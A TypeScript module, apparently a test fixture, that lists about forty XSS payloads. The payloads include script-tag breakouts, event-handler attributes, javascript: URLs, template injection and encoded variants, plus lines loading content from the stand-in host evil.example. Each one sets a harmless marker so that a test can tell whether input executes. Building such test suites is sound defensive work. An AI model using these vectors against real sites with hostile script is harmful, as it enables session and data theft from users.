/**
 * Each payload sets `window.ran` if it runs: as HTML, an attribute, a script, a URL, a style, a template or after
 * decoding.
 */
const RUN = 'window.ran=1';

export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<math><mtext><script>${RUN}</script>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `"};${RUN};//`,
  `';${RUN};//`,
  `\u2028${RUN}\u2028`,
  `<!--<script>${RUN}//-->`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

/**
 * Joins the payloads into as few texts as possible, each with at most the given number of characters. Drops longer
 * payloads.
 */
export function textsOfPayloads(maxLength: number, payloads = PAYLOADS): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length + 1 <= maxLength)
      texts[texts.length - 1] = `${last} ${payload}`;
    else if (payload.length <= maxLength) texts.push(payload);
  }
  return texts;
}
